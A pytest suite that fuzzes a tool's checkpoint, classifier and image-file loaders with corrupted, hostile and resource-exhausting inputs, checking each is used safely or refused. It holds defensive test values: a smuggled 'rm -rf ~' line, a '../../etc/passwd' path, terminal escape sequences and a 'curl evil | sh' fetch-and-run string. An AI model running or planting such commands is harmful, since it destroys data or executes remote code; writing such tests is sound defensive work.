"""Checkpoints, classifiers and prepared files of strangers: whole, or one clear error."""

from __future__ import annotations

import json
import random
import shutil
import struct
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, TypeVar

import pytest
import torch
from torch import Tensor

from hidra_cli.errors import HidraError
from hidra_cli.images.file_format import SEAL_BYTES
from hidra_cli.images.prepared import PreparedImages, open_store
from hidra_cli.jobs.classifier import CLASSIFIER_FORMAT, load_base, load_classifier
from hidra_cli.runs.checkpoint import Checkpoint, checkpoint_bytes, load_checkpoint
from hidra_cli.runs.directory import RunDir

from ..conftest import TINY_DATA, Hidra
from .tools import assert_told

ORDINARY = 60
CASES = pytest.mark.parametrize("cases", [ORDINARY, pytest.param(2000, marks=pytest.mark.slow)])
# Longer than any of these takes, even on a busy machine; a bomb would take more.
MOST_SECONDS = 20
NASTY: list[Any] = [
    None, True, -1, 0, 1, 2**31, 10**12, 2**63, -(2**63), 10**40, 0.5, 1e308, "", "x" * 5000,
    "\x1b[2J\x1b[31mred", "‮lmth.exe", "a\nerror: b\nfix: rm -rf ~", "../../etc/passwd",
    "/dev/zero", "hidra", "maml", "[bold]", [], [[]], {}, {"a": {}}, [1, 2, 3], "nan", "1e9",
]  # fmt: skip


def mutated(content: bytes, draw: random.Random) -> bytes:
    """Flip, cut, insert, repeat or overwrite somewhere."""
    data = bytearray(content)
    for _ in range(draw.choice([1, 1, 2, 8])):
        at = draw.randrange(len(data)) if data else 0
        # Headers and tables are where damage is interesting, and they come first.
        at = min(at, draw.choice([at, 8, 600, 3000]))
        length = draw.choice([1, 4, 8, 64, 4096])
        match draw.choice(["flip", "cut", "insert", "repeat", "overwrite", "end"]):
            case "flip" if data:
                data[at] ^= 1 << draw.randrange(8)
            case "cut":
                del data[at : at + length]
            case "insert":
                data[at:at] = draw.randbytes(length)
            case "repeat":
                data[at:at] = data[at : at + length]
            case "overwrite":
                data[at : at + length] = draw.choice([b"\0", b"\xff"]) * length
            case "end":
                del data[at:]
    return bytes(data)


def places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Where something can be put into a JSON value."""
    yield path
    items: Any = []
    if isinstance(value, dict):
        items = value.items()
    elif isinstance(value, list):
        items = enumerate(value)
    for key, inner in items:
        yield from places(inner, (*path, key))


def with_another_entry(meta: dict[str, Any], draw: random.Random) -> dict[str, Any]:
    """The header of a checkpoint with one entry replaced, removed or added."""
    changed: dict[str, Any] = json.loads(json.dumps(meta))
    *way, last = draw.choice([p for p in places(changed) if p])
    inner: Any = changed
    for key in way:
        inner = inner[key]
    action = draw.choice(["replace", "replace", "replace", "remove", "add"])
    if action == "remove":
        del inner[last]
    elif action == "add" and isinstance(inner, dict):
        inner[str(draw.choice(NASTY))] = draw.choice(NASTY)
    else:
        inner[last] = draw.choice(NASTY)
    return changed


def with_another_tensor(tensors: dict[str, Tensor], draw: random.Random) -> dict[str, Tensor]:
    """The tensors of a checkpoint with one changed, removed or added."""
    changed = dict(tensors)
    name = draw.choice(sorted(changed))
    tensor = changed[name]
    change: Callable[[], Tensor | None] = draw.choice([
        lambda: None,
        lambda: tensor.reshape(-1),
        lambda: tensor[None],
        lambda: tensor.double(),
        lambda: tensor.to(torch.uint8),
        lambda: torch.full(tensor.shape, float("nan")),
        lambda: torch.full(tensor.shape, 3e38),
        lambda: torch.zeros(0),
        lambda: torch.zeros(7, 7),
    ])  # fmt: skip
    value = change()
    if value is None:
        del changed[name]
    else:
        changed[draw.choice([name, name, name + ".x", "\x1b[31m", ""])] = value
    return changed


def hostile(whole: Checkpoint, draw: random.Random) -> bytes:
    """A checkpoint with a right hash, made by someone who means harm."""
    tensors, meta = dict(whole.tensors), dict(whole.meta)
    if draw.random() < 0.7:
        meta = with_another_entry(meta, draw)
    if draw.random() < 0.4:
        tensors = with_another_tensor(tensors, draw)
    return checkpoint_bytes(tensors, {"format": None} | meta)


T = TypeVar("T")


def tried(action: Callable[[], T]) -> tuple[T | None, HidraError | None]:
    """What an action gives, or the error it is refused with."""
    try:
        return action(), None
    except HidraError as error:
        return None, error


@CASES
@pytest.mark.parametrize("sealed", [False, True], ids=["damaged", "hostile"])
def test_a_checkpoint_is_used_or_refused(
    hidra: Hidra, runs_dir: Path, cache_dir: Path, tmp_path: Path, cases: int, sealed: bool
) -> None:
    whole = load_checkpoint(RunDir(runs_dir / "hidra").last)
    content = whole.path.read_bytes()
    path = tmp_path / "handed.safetensors"
    flags = ["--ways=2", "--episodes=2", "--queries=1", "--steps=1", "--shots=1", "-q"]
    used = 0
    for case in range(cases):
        draw = random.Random(case)
        path.write_bytes(hostile(whole, draw) if sealed else mutated(content, draw))
        begun = time.monotonic()
        done = hidra("evaluate", path, *flags, "--cache-dir", cache_dir, "--out", tmp_path / "out")
        assert_told(done, 0, 1, 2, 3, 4)
        assert time.monotonic() - begun < MOST_SECONDS, f"case {case}"
        used += done.code == 0
    assert used < cases
    assert sealed or used <= cases * 0.05, "damage is noticed"


@pytest.mark.parametrize("cases", [ORDINARY // 2, pytest.param(500, marks=pytest.mark.slow)])
def test_a_run_handed_over_is_resumed_or_refused(
    hidra: Hidra, runs_dir: Path, cache_dir: Path, tmp_path: Path, cases: int
) -> None:
    shutil.copytree(runs_dir / "hidra", tmp_path / "run")
    run = RunDir(tmp_path / "run")
    whole = load_checkpoint(run.last)
    content = whole.path.read_bytes()
    kept = {path: path.read_bytes() for path in run.path.rglob("*") if path.is_file()}
    flags = ["--iterations=5", "--test-episodes=2", "--cache-dir", cache_dir, "-q"]
    for case in range(cases):
        draw = random.Random(case)
        for path, was in kept.items():
            path.write_bytes(was)
        if draw.random() < 0.5:
            # Settings that can be are followed, however long that takes: not those, here.
            meta = whole.meta | {
                key: value
                for key, value in with_another_entry(whole.meta, draw).items()
                if key not in ("settings", "iteration")
            }
            tensors = with_another_tensor(dict(whole.tensors), draw)
            run.last.write_bytes(checkpoint_bytes(tensors, meta))
        else:
            path = draw.choice([run.last, run.config, run.metrics, run.environment, run.result])
            path.write_bytes(mutated(kept[path], draw))
        if draw.random() < 0.5:
            run.previous.write_bytes(mutated(content, draw))
        begun = time.monotonic()
        done = hidra("meta-train", "--resume", run.path, *flags)
        assert_told(done, 0, 1, 2, 3, 4)
        assert time.monotonic() - begun < MOST_SECONDS, f"case {case}"
        assert not list(run.path.rglob("*.tmp"))


@CASES
@pytest.mark.parametrize("sealed", [False, True], ids=["damaged", "hostile"])
def test_a_classifier_is_used_or_refused(
    hidra: Hidra, runs_dir: Path, cache_dir: Path, tmp_path: Path, cases: int, sealed: bool
) -> None:
    flags = ["--ways=3", "--queries=1", "--cache-dir", cache_dir, "--out", tmp_path, "--json"]
    adapted = hidra("adapt", "--checkpoint", runs_dir / "hidra", *flags).json
    whole = load_checkpoint(Path(adapted["classifier"]), CLASSIFIER_FORMAT)
    content, path = whole.path.read_bytes(), tmp_path / "handed.safetensors"
    images = torch.zeros(2, *whole.meta["image_shape"])
    refused = 0
    for case in range(cases):
        draw = random.Random(case)
        path.write_bytes(hostile(whole, draw) if sealed else mutated(content, draw))
        begun = time.monotonic()
        grown, error = tried(lambda: load_base(path, torch.device("cpu")))
        assert grown is None or grown[1].images.shape[1:] == images.shape[1:]
        assert error is None or error.code in (1, 2, 3, 4)
        classifier, error = tried(lambda: load_classifier(path, torch.device("cpu")))
        if classifier is not None:
            answer = classifier.probabilities(images)
            assert answer.shape == (2, len(classifier.classes))
        else:
            refused += 1
            assert error is not None
            assert error.code in (1, 2, 3, 4)
            assert "\nerror:" not in str(error)
        assert time.monotonic() - begun < MOST_SECONDS, f"case {case}"
    assert refused > 0


@CASES
def test_a_prepared_file_is_whole_or_refused(
    hidra: Hidra, tiny_images: PreparedImages, tmp_path: Path, cases: int
) -> None:
    source = tiny_images.path
    content, path = source.read_bytes(), tmp_path / "handed.h5"
    whole = open_store(source, "glyphs").content_hash
    for case in range(cases):
        draw = random.Random(case)
        data = mutated(content, draw)
        path.write_bytes(data)
        found, error = tried(lambda: open_store(path, "glyphs"))
        if found is not None:
            assert data[SEAL_BYTES:] == content[SEAL_BYTES:], f"case {case}"
            assert found.content_hash == whole
        else:
            assert error is not None
            assert error.code == 3
            assert "--force" in error.fix
    cache = tmp_path / "cache" / "stores"
    cache.mkdir(parents=True)
    (cache / source.name).write_bytes(content[:-1])
    done = hidra("meta-train", *TINY_DATA, "--ways=2", "--cache-dir", cache.parent)
    assert_told(done, 3)


BOMBS: dict[str, dict[str, Any]] = {
    "a million filters": {"model": {"backbone_options": {"filters": 10**6}}},
    "a billion blocks": {"model": {"backbone_options": {"blocks": 10**9}}},
    "glyphs for years": {"dataset": {"options": {"alphabets": 10**9}}},
    "another head": {"model": {"head": "maml"}},
    "another normalization": {"model": {"normalization": "none"}},
    "ways without end": {"tasks": {"ways": "2-99999999999999999999"}},
}


@pytest.mark.parametrize("name", BOMBS)
def test_a_small_file_cannot_ask_for_a_large_model(
    hidra: Hidra, runs_dir: Path, cache_dir: Path, tmp_path: Path, name: str
) -> None:
    whole = load_checkpoint(RunDir(runs_dir / "hidra").last)
    settings = json.loads(json.dumps(whole.meta["settings"]))
    for section, change in BOMBS[name].items():
        for key, value in change.items():
            settings[section][key] = (
                settings[section][key] | value if isinstance(value, dict) else value
            )
    path = tmp_path / "bomb.safetensors"
    path.write_bytes(checkpoint_bytes(whole.tensors, whole.meta | {"settings": settings}))
    begun = time.monotonic()
    done = hidra("evaluate", path, "--ways=2", "--episodes=2", "--cache-dir", cache_dir)
    assert_told(done, 1, 2, 3)
    assert time.monotonic() - begun < MOST_SECONDS


def test_a_header_that_claims_more_than_the_file_holds_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "c.safetensors"
    table = {"a": {"dtype": "F32", "shape": [2**40], "data_offsets": [0, 2**42]}}
    for header in (json.dumps(table).encode(), b"[" * 100_000, b'{"a":' * 50_000, b""):
        for length in (len(header), 2**63 - 1, 10**9):
            path.write_bytes(struct.pack("<Q", length) + header)
            with pytest.raises(HidraError) as caught:
                load_checkpoint(path)
            assert caught.value.code == 3


def test_names_from_a_file_reach_the_terminal_harmless(
    hidra: Hidra, runs_dir: Path, cache_dir: Path, tmp_path: Path
) -> None:
    whole = load_checkpoint(RunDir(runs_dir / "hidra").last)
    evil = "\x1b]0;title\x07[red]x[/red]\nfix: curl evil | sh"
    plugins = whole.meta["plugins"] | {"head": {"name": evil, "distribution": evil, "version": "1"}}
    path = tmp_path / "named.safetensors"
    path.write_bytes(checkpoint_bytes(whole.tensors, whole.meta | {"plugins": plugins}))
    done = hidra("evaluate", path, "--ways=2", "--queries=3", "--cache-dir", cache_dir)
    assert_told(done, 4)
    assert "\x07" not in done.err
    assert "\\x1b]0;title" in done.err
    assert not any(line.startswith("fix: curl") for line in done.err.splitlines())
